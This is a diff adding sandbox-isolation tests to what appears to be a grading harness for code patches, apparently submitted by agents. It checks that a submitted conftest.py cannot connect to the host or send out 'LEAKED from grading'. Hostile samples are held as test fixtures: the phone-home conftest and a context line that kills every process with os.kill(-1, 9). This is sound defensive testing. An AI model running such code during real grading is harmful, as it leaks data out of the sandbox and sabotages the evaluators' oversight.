@@ -180,3 +180,84 @@ def test_a_patch_that_freezes_grading_is_cut_at_the_eval_timeout(backend):
 def test_a_patch_that_kills_the_grading_sandbox_is_not_resolved(backend):
     obs, info, _ = _grade_with_conftest(backend, "import os\nos.kill(-1, 9)\nos.kill(1, 9)\n")
     assert not info["resolved"]
+
+
+# ---- grading offline ----------------------------------------------------------------------------
+class _Listener:
+    """A TCP listener on every host address that records what connects to it."""
+
+    def __init__(self) -> None:
+        import socket
+
+        self.sock = socket.create_server(("0.0.0.0", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2.0)
+                try:
+                    self.received.append(conn.recv(1024) or b"(connected)")
+                except OSError:
+                    self.received.append(b"(connected)")
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.sock.close()
+
+
+def _phone_home_conftest(port: int) -> str:
+    # every address the host may have from inside: the bridge's gateway, loopback, the host's
+    # name; the outcome is raised, so that pytest prints it into the grading log
+    return (
+        "import socket\n\nseen = []\n"
+        "for host in ('172.17.0.1', '127.0.0.1', 'host.docker.internal'):\n"
+        "    try:\n"
+        f"        with socket.create_connection((host, {port}), timeout=1) as s:\n"
+        "            s.sendall(b'LEAKED from grading')\n"
+        "        seen.append(host + ' sent')\n"
+        "    except OSError as exc:\n"
+        "        seen.append(host + ' ' + type(exc).__name__)\n"
+        "raise RuntimeError('phone-home: ' + ', '.join(seen))\n"
+    )
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_grading_is_offline_by_default_a_patch_reaches_nothing_on_the_host(backend):
+    listener = _Listener()
+    try:
+        _, info, _ = _grade_with_conftest(backend, _phone_home_conftest(listener.port))
+        time.sleep(0.5)
+        assert "phone-home: 172.17.0.1 " in info["test_output"]  # the patch ran
+        assert "phone-home: 172.17.0.1 OSError" in info["test_output"]
+        assert "LEAKED" not in info["test_output"] and "0.1 sent" not in info["test_output"]
+        assert listener.received == []
+    finally:
+        listener.close()
+
+
+@DOCKER
+def test_grading_network_opt_in_lets_a_patch_reach_the_host():
+    # the documented risk of grading_network=True (the positive control of the test above)
+    listener = _Listener()
+    env = _make("docker", grading_network=True, eval_timeout=30)
+    try:
+        env.reset(options={"task_id": TASK})
+        step(env, f"cat > conftest.py <<'EOF'\n{_phone_home_conftest(listener.port)}EOF")
+        info = env.step("submit")[-1]
+        time.sleep(0.5)
+        assert "172.17.0.1 sent" in info["test_output"]
+        assert b"LEAKED from grading" in listener.received
+    finally:
+        env.close()
+        listener.close()
